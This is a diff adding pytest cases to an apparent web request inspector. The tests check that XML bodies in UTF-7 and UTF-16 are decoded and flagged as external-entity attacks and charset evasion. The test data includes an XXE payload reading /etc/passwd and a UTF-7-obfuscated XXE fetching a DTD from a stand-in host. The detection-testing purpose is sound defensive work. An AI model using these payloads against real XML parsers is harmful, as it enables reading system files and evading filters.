@@ -210,3 +210,48 @@ def test_a_script_written_with_put_under_a_disguised_name(uri: str) -> None:
 def test_put_of_other_files_stays_quiet(uri: str) -> None:
     req = _request(uri, "hello", "text/plain", method="PUT")
     assert "web.protocol.script-upload" not in _rules(req)
+
+
+# 4. XML in UTF-7 and UTF-16 -------------------------------------------------------------
+
+UTF7_XXE = (
+    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY +ACU- d SYSTEM '
+    "+ACI-http://x.example/e.dtd+ACI-+AD4AJQ-d+ADsAXQA+-<r/>"
+)
+XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
+
+
+def test_a_utf7_xml_body_is_decoded_and_flagged_as_an_evasion() -> None:
+    rules = _rules(_request("/api/soap", UTF7_XXE, "text/xml"))
+    assert {"web.xxe.external-entity", "web.protocol.charset"} <= rules
+
+
+@pytest.mark.parametrize(
+    "wire",
+    [
+        XXE.encode("utf-16-be"),
+        XXE.encode("utf-16-le"),
+        b"\xfe\xff" + XXE.encode("utf-16-be"),
+        b"\xff\xfe" + XXE.encode("utf-16-le"),
+    ],
+)
+def test_a_utf16_xml_body_is_decoded_and_inspected_as_xml(wire: bytes) -> None:
+    for ctype in ("application/xml", None):
+        rules = _rules(_request("/api/soap", wire.decode("latin-1"), ctype))
+        assert "web.xxe.external-entity" in rules
+        assert "web.protocol.nul" not in rules  # NULs of UTF-16, not a NUL-byte attack
+
+
+def test_utf16_and_plain_xml_of_citizens_stay_quiet() -> None:
+    doc = '<?xml version="1.0"?><report><street>Õun tänav</street><note>+1 auk</note></report>'
+    assert _rules(_request("/api/soap", doc, "text/xml")) == set()
+    wire = ("\ufeff" + doc).encode("utf-16-le").decode("latin-1")
+    assert _rules(_request("/api/soap", wire, "application/xml")) == set()
+    parsed = parse_request(_request("/api/soap", wire, "application/xml"))
+    assert [p.value for p in parsed.params if p.location == "body"] == [doc]
+
+
+def test_a_binary_body_with_nuls_is_left_as_it_is() -> None:
+    binary = "\x00\x01\x02\x03" + "".join(chr(i) for i in range(256))
+    parsed = parse_request(_request("/upload", binary, "application/octet-stream"))
+    assert [p.raw for p in parsed.params if p.location == "body"] == [binary[:8192]]
